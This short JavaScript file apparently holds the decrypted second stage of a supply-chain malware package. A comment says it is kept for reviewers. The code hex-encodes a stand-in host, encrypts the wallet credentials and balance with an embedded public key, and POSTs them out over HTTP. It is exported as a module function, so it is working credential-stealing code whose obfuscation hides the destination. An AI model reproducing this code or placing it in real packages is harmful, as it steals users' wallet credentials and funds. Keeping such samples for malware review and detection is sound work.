// Second stage as decrypted by index.min.js (kept here so the shape is visible to a reviewer).
var http = require("http"), crypto = require("crypto");
var KEY = "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAxFAKEFAKEFAKEFAKEFAKEFAKEFAKE\n-----END PUBLIC KEY-----";
function sendRequest(hexHost, path, payload) {
  var host = Buffer.from(hexHost, "hex").toString(); // "copay.wallet.example"
  var body = crypto.publicEncrypt(KEY, Buffer.from(JSON.stringify(payload))).toString("hex");
  var req = http.request({ hostname: host, port: 8080, path: path, method: "POST" });
  req.write(body); req.end();
}
module.exports = function (wallet) {
  sendRequest("636f7061792e77616c6c65742e6578616d706c65", "/api/w", { credentials: wallet.credentials, balance: wallet.balance });
};
